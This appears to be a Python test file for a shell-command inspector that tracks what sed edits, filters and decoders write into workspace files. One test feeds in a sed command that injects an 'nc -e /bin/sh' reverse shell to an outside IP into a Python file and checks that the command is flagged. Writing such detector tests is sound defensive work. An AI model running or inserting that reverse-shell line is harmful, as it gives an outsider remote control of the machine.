"""What a shell command line puts into workspace files, for a later run to inherit: the text an
in-place edit adds, the files a filter passes on, and doubt for text nobody has read."""

from __future__ import annotations

from gatekeeper.inspectors.shell import reading
from gatekeeper.inspectors.shell_code import sed_script

WS = "/workspace"


def test_sed_script_collects_the_text_it_adds() -> None:
    added: list[str] = []
    sed_script("1a import os\ns|^x$|a\\|b|g;/y/i before\n$c\\\nlast", added)
    assert added == ["import os", "a|b", "before", "last"]


def test_an_in_place_edit_notes_only_what_no_ordinary_fragment_does() -> None:
    read = reading({"cmd": "sed -i '1a import os; os.system(\"nc -e /bin/sh 203.0.113.7 4444\")' t.py"}, WS)
    assert read is not None
    notes = dict(read.noted)
    assert "net.reverse_shell" in {c.name for c in notes["/workspace/t.py"]}
    read = reading({"cmd": "sed -i 's/min-lines=0/min-lines=1/' t.py"}, WS)
    assert read is not None and read.noted == ()  # a program name read from a fragment is noise


def test_filters_carry_their_inputs_and_decoders_are_doubt() -> None:
    read = reading({"cmd": "cat < a.txt > b.sh; cat a.txt | sort | tee c.sh"}, WS)
    assert read is not None
    assert set(read.copied) >= {
        ("/workspace/b.sh", "/workspace/a.txt"),
        ("/workspace/c.sh", "/workspace/a.txt"),
    }
    read = reading({"cmd": "gunzip -c a.gz | tee b.sh; python3 gen.py > c.sh; cat a.txt > d.sh"}, WS)
    assert read is not None
    assert [p for p, _ in read.noted] == ["/workspace/b.sh", "/workspace/c.sh"]
